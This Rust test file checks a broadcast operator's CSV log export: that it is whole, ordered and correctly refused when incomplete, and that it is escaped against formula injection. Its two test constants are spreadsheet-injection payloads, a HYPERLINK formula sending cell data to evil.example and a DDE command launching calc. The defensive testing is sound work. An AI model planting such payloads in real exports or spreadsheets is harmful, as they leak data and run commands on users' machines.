//! The log of a Broadcast as one CSV: `broadcast-operator export`.

use std::process::{Command, Output};

use serde_json::json;

use crate::common::stage::{CHANNEL, Stage, broadcast, chat_id};

/// What somebody may call himself.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"Ana")"#;
/// What a gateway may answer.
const COMMAND: &str = "=cmd|'/c calc'!A1";

/// Runs the command as an account.
fn run(stage: &Stage, account: &str, arguments: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_broadcast-operator"));
    command.env("KUBECONFIG", stage.plane.kubeconfig(account)).arg("export").args(arguments);
    tokio::task::block_in_place(|| command.output()).expect("should run")
}

/// The rows of an export that succeeds, header included.
fn rows(stage: &Stage, arguments: &[&str]) -> Vec<Vec<String>> {
    let output = run(stage, "admin", arguments);
    let problem = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success() && problem.is_empty(), "{problem}");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&output.stdout[..]);
    reader.records().map(|record| record.expect("CSV").iter().map(str::to_owned).collect()).collect()
}

/// What an export says that fails, and prints nothing else.
fn refused(stage: &Stage, account: &str, arguments: &[&str]) -> String {
    let output = run(stage, account, arguments);
    assert_eq!(output.status.code(), Some(1));
    assert!(output.stdout.is_empty(), "half a log: {}", String::from_utf8_lossy(&output.stdout));
    String::from_utf8(output.stderr).expect("text")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_log_with_hostile_names_and_answers_has_no_formula_in_it() {
    let stage = Stage::new().await;
    let refusal = json!({"refuse": {"status": 400, "code": COMMAND, "message": "@SUM(1)"}});
    stage.set_faults(json!([{"when": {"chats": [chat_id(3)]}, "do": refusal}]));
    let mut csv = String::from("chat,name\n");
    for chat in 0..300 {
        let name = if chat == 299 { HYPERLINK.replace('"', "\"\"") } else { format!("Guest {chat}") };
        csv += &format!("{},\"{name}\"\n", chat_id(chat));
    }
    csv += "nobody at all,Bo\n";
    stage.apply(&broadcast("sale", 0, json!({"recipients": {"csv": csv}})));
    stage.complete("sale").await;
    assert_eq!(stage.pages("sale").await.len(), 2);

    let export = rows(&stage, &["sale", "-n", &stage.namespace]);
    let [header, log @ ..] = &export[..] else { panic!("a header") };
    assert_eq!(header.join(","), "chat,outcome,time,attempts,messageId,code,detail,name");
    assert_eq!(log.len(), 301);
    for (chat, row) in log.iter().take(300).enumerate() {
        assert_eq!(row[0], chat_id(chat), "in the order of the audience, and not changed");
        assert_eq!(row[1], if chat == 3 { "Failed" } else { "Sent" });
        assert!(!row[2].is_empty() && row[3] == "1");
    }
    assert_eq!(log[3][5..], [format!("'{COMMAND}"), "'@SUM(1)".into(), "Guest 3".into()]);
    assert_eq!(log[299][7], format!("'{HYPERLINK}"));
    assert_eq!(log[300][..2], ["nobody at all", "Skipped"]);
    assert_eq!(log[300][5], "InvalidChat");
    for cell in export.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
    }

    let raw = rows(&stage, &["sale", "--namespace", &stage.namespace, "--raw"]);
    assert_eq!(raw[4][5..7], [COMMAND, "@SUM(1)"]);
    assert_eq!(raw[300][7], HYPERLINK);
    let pages = stage.pages("sale").await;
    assert!(
        pages[0].status.as_ref().expect("outcomes").outcomes.contains(COMMAND),
        "pages keep what was said"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_log_that_is_not_whole_is_not_printed_and_the_page_is_named() {
    let stage = Stage::new().await;
    let of_sale = ["sale", "-n", &stage.namespace];
    let sale = format!("{}/sale", stage.namespace);
    assert_eq!(refused(&stage, "admin", &of_sale), format!("error: Broadcast {sale} does not exist\n"));
    stage.plane.write_kubeconfig("stranger", "no such token");
    let problem = refused(&stage, "stranger", &of_sale);
    assert!(problem.starts_with(&format!("error: failed to read Broadcast {sale}: ")), "{problem}");
    assert!(problem.contains("Unauthorized"), "{problem}");

    stage.apply(&broadcast("sale", 300, json!({"paused": true})));
    stage.wait_state("sale", "Stopped").await;
    let problem = refused(&stage, "admin", &of_sale);
    assert!(problem.contains("its audience is not sealed yet"), "{problem}");
    // Without a namespace it is that of the kubeconfig, which has none.
    let problem = refused(&stage, "admin", &["sale"]);
    assert_eq!(problem, "error: Broadcast default/sale does not exist\n");

    stage.pause("sale", false).await;
    stage.complete("sale").await;
    assert_eq!(rows(&stage, &of_sale).len(), 301);
    let garbage = r#"{"status": {"outcomes": "chat,outcome\n"}}"#;
    stage.kubectl(&["patch", "bcb", "sale-00001", "--subresource=status", "--type=merge", "-p", garbage]);
    let problem = refused(&stage, "admin", &of_sale);
    assert!(problem.contains(&format!("the log of Broadcast {sale} cannot be exported")), "{problem}");
    assert!(problem.contains("page sale-00001 cannot be read: failed to read the outcomes"), "{problem}");
    stage.kubectl(&["delete", "bcb", "sale-00001"]);
    let problem = refused(&stage, "admin", &of_sale);
    assert!(problem.contains("1 of its 2 pages are missing: sale-00001"), "{problem}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_log_of_more_pages_than_one_answer_holds_is_whole() {
    let stage = Stage::bare().await;
    // The brake is on: the pages are made, and nothing is sent.
    stage.apply(&stage.channel(CHANNEL, json!({}), json!({"paused": true})));
    let audience = broadcast("sale", 25_250, json!({}));
    stage
        .plane
        .kubectl(&["apply", "--server-side", "-n", &stage.namespace, "-f", "-"], &audience.to_string());
    stage.wait_state("sale", "ChannelPaused").await;
    let pages = stage.pages("sale").await.len();
    assert!(pages > 100, "{pages} pages come with one answer");
    let export = rows(&stage, &["sale", "-n", &stage.namespace]);
    let chats: Vec<&String> = export.iter().skip(1).map(|row| &row[0]).collect();
    let wanted: Vec<String> = (0..25_250).map(chat_id).collect();
    assert!(chats.into_iter().eq(&wanted), "every chat is there once, in order");
}
